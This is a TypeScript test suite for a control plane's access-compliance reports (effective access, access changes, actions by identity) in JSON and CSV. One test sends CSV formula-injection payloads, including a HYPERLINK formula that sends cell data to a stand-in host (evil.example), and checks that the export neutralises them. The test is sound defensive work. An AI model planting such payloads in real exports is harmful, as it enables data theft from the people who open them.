/**
 * Compliance reports against a modelled organisation: departments as groups
 * (engineering holds the platform team), an auditors group that reads but
 * may not act, bindings on datacenters and everywhere. The reports' rows are
 * checked one by one, in JSON and in CSV.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { ManualClock } from '../../src/core/clock.js';
import type { DiscoveredObject } from '../../src/hypervisors/driver.js';
import {
  startTestServer,
  storeKinds,
  type ApiAnswer,
  type TestServer,
} from '../../src/testing/control-plane.js';
import { parseCsv } from '../../src/testing/csv-reader.js';

const t0 = Date.UTC(2026, 5, 1);
const hour = 3_600_000;

const objects: DiscoveredObject[] = [
  { kind: 'datacenter', externalId: 'dc-a', name: 'dc-a', parent: null, facts: {} },
  { kind: 'datacenter', externalId: 'dc-b', name: 'dc-b', parent: null, facts: {} },
  ...(['a', 'b'] as const).flatMap((dc): DiscoveredObject[] => [
    {
      kind: 'host',
      externalId: `h-${dc}`,
      name: `host-${dc}`,
      parent: { kind: 'datacenter', externalId: `dc-${dc}` },
      facts: {},
    },
    {
      kind: 'vm',
      externalId: `v-${dc}`,
      name: `web-${dc}`,
      parent: { kind: 'host', externalId: `h-${dc}` },
      hostExternalId: `h-${dc}`,
      powerState: 'stopped',
      facts: {},
    } as DiscoveredObject,
  ]),
];

for (const store of storeKinds) {
  describe(`compliance reports on ${store}`, () => {
    const clock = new ManualClock(t0);
    let s: TestServer;
    let admin: string;
    const tokens: Record<string, string> = {};
    const get = (path: string, token = tokens.audrey) => s.request('GET', path, { token });
    const post = (path: string, body: unknown) => s.request('POST', path, { token: admin, body });

    before(async () => {
      s = await startTestServer({ store, clock });
      admin = await s.login();
      await s.plane.inventory.applySnapshot('conn_TEST', objects);
      for (const group of ['engineering', 'platform', 'finance', 'auditors'])
        assert.equal((await post('/groups', { name: group })).status, 201);
      await post('/groups/engineering/members', { member: 'platform' });
      for (const [name, group] of [
        ['erin', 'platform'],
        ['fred', 'finance'],
        ['audrey', 'auditors'],
      ] as const) {
        await s.plane.identities.createUser({
          name,
          role: 'none',
          password: `${name}-password-long`,
        });
        await post(`/groups/${group}/members`, { member: name });
        tokens[name] = await s.login(name, `${name}-password-long`);
      }
      await post('/roles', { name: 'vm-operator', permissions: ['inventory.read', 'vm.power'] });
      await post('/roles', { name: 'auditor', permissions: ['audit.read', 'inventory.read'] });
      for (const [subject, role, scope] of [
        ['engineering', 'vm-operator', 'dc-a'],
        ['finance', 'viewer', 'dc-b'],
        ['auditors', 'auditor', undefined],
      ] as const)
        assert.equal(
          (await post('/role-bindings', { subject, role, ...(scope ? { scope } : {}) })).status,
          201,
        );
    });
    after(async () => s.close());

    test('effective access names who may power VMs where, and through which binding and groups', async () => {
      const report = await get('/access/reports/effective?permission=vm.power');
      assert.equal(report.status, 200, JSON.stringify(report.body));
      const rows = report.body.items.map((r: ApiAnswer) => [
        r.identityName,
        r.scopeName,
        r.role,
        r.viaGroups.join('>'),
      ]);
      assert.deepEqual(rows, [
        ['admin', 'everything', 'admin', ''],
        ['erin', 'dc-a', 'vm-operator', 'platform>engineering'],
      ]);
      const erin = report.body.items[1];
      const binding = (
        await s.request('GET', '/role-bindings?subject=engineering', { token: admin })
      ).body.items[0];
      assert.equal(erin.bindingId, binding.id);
      assert.equal(erin.scopeKind, 'datacenter');
    });

    test('effective access of the auditor: reading everywhere, nothing that acts', async () => {
      const report = await get('/access/reports/effective?identity=audrey');
      assert.deepEqual(
        report.body.items.map((r: ApiAnswer) => [r.permission, r.scopeName, r.viaGroups]),
        [
          ['audit.read', 'everything', ['auditors']],
          ['inventory.read', 'everything', ['auditors']],
        ],
      );
      // And she really cannot act, while she can read.
      const start = await s.request('POST', '/vms/web-a/start', { token: tokens.audrey });
      assert.deepEqual([start.status, start.body.error.code], [403, 'ZEN_FORBIDDEN']);
      const group = await s.request('POST', '/groups', {
        token: tokens.audrey,
        body: { name: 'x' },
      });
      assert.deepEqual([group.status, group.body.error.code], [403, 'ZEN_FORBIDDEN']);
      assert.equal((await get('/vms/web-a')).status, 200);
    });

    test('effective access by scope: only grants that reach the object', async () => {
      const report = await get('/access/reports/effective?scope=web-b&permission=inventory.read');
      assert.deepEqual(
        report.body.items.map((r: ApiAnswer) => [r.identityName, r.scopeName]),
        [
          ['admin', 'everything'],
          ['audrey', 'everything'],
          ['fred', 'dc-b'],
        ],
      );
    });

    test('reports need audit.read, and bad filters are coded 4xx errors', async () => {
      for (const path of [
        '/access/reports/effective',
        `/access/reports/changes?from=${t0}&to=${t0 + hour}`,
        `/access/reports/actions?identity=erin&from=${t0}&to=${t0 + hour}`,
      ]) {
        const refused = await get(path, tokens.erin);
        assert.deepEqual([refused.status, refused.body.error.code], [403, 'ZEN_FORBIDDEN']);
      }
      const cases: Array<[string, number, string]> = [
        ['/access/reports/effective?permission=vm.fly', 400, 'ZEN_BAD_REQUEST'],
        ['/access/reports/effective?identity=nobody', 404, 'ZEN_NOT_FOUND'],
        ['/access/reports/effective?scope=nowhere', 404, 'ZEN_NOT_FOUND'],
        ['/access/reports/effective?format=xml', 400, 'ZEN_BAD_REQUEST'],
        [`/access/reports/changes?from=${t0 + hour}&to=${t0}`, 400, 'ZEN_BAD_REQUEST'],
        [`/access/reports/changes?from=${t0}`, 400, 'ZEN_BAD_REQUEST'],
        [`/access/reports/changes?from=0&to=${t0}`, 400, 'ZEN_BAD_REQUEST'],
        [`/access/reports/actions?from=${t0}&to=${t0 + hour}`, 400, 'ZEN_BAD_REQUEST'],
      ];
      for (const [path, status, code] of cases) {
        const answer = await get(path);
        assert.deepEqual([answer.status, answer.body.error?.code], [status, code], path);
      }
    });

    test('a refused request whose path names a formula reaches the CSV report as text, not a formula', async () => {
      await clock.advance(hour);
      const from = clock.now();
      const crafted = [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        '+1+1',
        '-2+3',
        '@SUM(1)',
        '\tx',
      ];
      for (const id of crafted) {
        const refused = await s.request('DELETE', `/role-bindings/${encodeURIComponent(id)}`, {
          token: tokens.erin,
        });
        assert.equal(refused.status, 403, JSON.stringify(refused.body));
      }
      await clock.advance(hour);
      const to = clock.now();
      const json = await get(`/access/reports/changes?from=${from}&to=${to}`);
      assert.deepEqual(
        json.body.items.map((r: ApiAnswer) => r.targetId),
        crafted,
        'JSON carries what was sent',
      );
      const csv = await get(`/access/reports/changes?from=${from}&to=${to}&format=csv`);
      const rows = parseCsv(csv.body as string).slice(1);
      assert.deepEqual(
        rows.map((row) => row[5]),
        crafted.map((id) => `'${id}`),
      );
      // The sequence number is still a number, not neutralised text.
      assert.equal(rows[0]![0], String(json.body.items[0].seq));
    });

    test('changes to access in a period and actions by identity, from the audit trail, as JSON and CSV', async () => {
      await clock.advance(hour);
      const from = clock.now();
      await post('/groups/finance/members', { member: 'erin' });
      const binding = await post('/role-bindings', {
        subject: 'fred',
        role: 'operator',
        scope: 'dc-b',
      });
      await s.request('DELETE', `/role-bindings/${binding.body.id}`, { token: admin });
      await s.request('PATCH', '/roles/vm-operator', {
        token: admin,
        body: { permissions: ['inventory.read', 'vm.power', 'vm.console'] },
      });
      await post('/groups', { name: 'rogue', description: 'a "rogue", team\nof two' });
      // Erin, between: a refused attempt and a change of her own password.
      await s.request('POST', '/groups', { token: tokens.erin, body: { name: 'erins' } });
      await s.request('POST', '/users/me/password', {
        token: tokens.erin,
        body: { password: 'erin-password-longer', currentPassword: 'erin-password-long' },
      });
      await clock.advance(hour);
      const to = clock.now();
      await post('/groups/finance/members', { member: 'audrey' }); // after the period

      const changes = await get(`/access/reports/changes?from=${from}&to=${to}`);
      assert.equal(changes.status, 200, JSON.stringify(changes.body));
      assert.deepEqual(
        changes.body.items.map((r: ApiAnswer) => [r.actorName, r.action, r.result]),
        [
          ['admin', 'group.addMember', 'succeeded'],
          ['admin', 'roleBinding.create', 'succeeded'],
          ['admin', 'roleBinding.delete', 'succeeded'],
          ['admin', 'role.update', 'succeeded'],
          ['admin', 'group.create', 'succeeded'],
          ['erin', 'group.create', 'denied'],
        ],
      );
      for (const row of changes.body.items) assert.ok(row.ts >= from && row.ts < to);
      assert.equal(changes.body.items[0].params.body.member, 'erin');

      const csv = await s.request(
        'GET',
        `/access/reports/changes?from=${from}&to=${to}&format=csv`,
        {
          token: tokens.audrey,
        },
      );
      assert.equal(csv.status, 200);
      const table = parseCsv(csv.body as string);
      assert.deepEqual(table[0], [
        'seq',
        'time',
        'actor',
        'actor_id',
        'action',
        'target',
        'result',
        'error_code',
        'params',
      ]);
      assert.equal(table.length, 7);
      const refused = table[6]!;
      assert.deepEqual(
        [refused[2], refused[4], refused[6], refused[7]],
        ['erin', 'group.create', 'denied', 'ZEN_FORBIDDEN'],
      );
      // A description with a comma, quotes and a line break survives the CSV round trip.
      assert.equal(JSON.parse(table[5]![8]!).body.description, 'a "rogue", team\nof two');
      assert.equal(refused[1], new Date(changes.body.items[5].ts).toISOString());

      const actions = await get(`/access/reports/actions?identity=erin&from=${from}&to=${to}`);
      assert.deepEqual(
        actions.body.items.map((r: ApiAnswer) => [r.action, r.result]),
        [
          ['group.create', 'denied'],
          ['identity.password', 'succeeded'],
        ],
      );
      const effectiveCsv = await s.request(
        'GET',
        '/access/reports/effective?identity=erin&permission=vm.console&format=csv',
        { token: tokens.audrey },
      );
      assert.deepEqual(parseCsv(effectiveCsv.body as string).slice(1), [
        [
          'erin',
          (await s.request('GET', '/users/erin', { token: admin })).body.id,
          'user',
          'vm.console',
          'dc-a',
          s.plane.inventory.lookup('dc-a').id,
          'datacenter',
          (await s.request('GET', '/role-bindings?subject=engineering', { token: admin })).body
            .items[0].id,
          'vm-operator',
          'platform > engineering',
        ],
      ]);
    });
  });
}
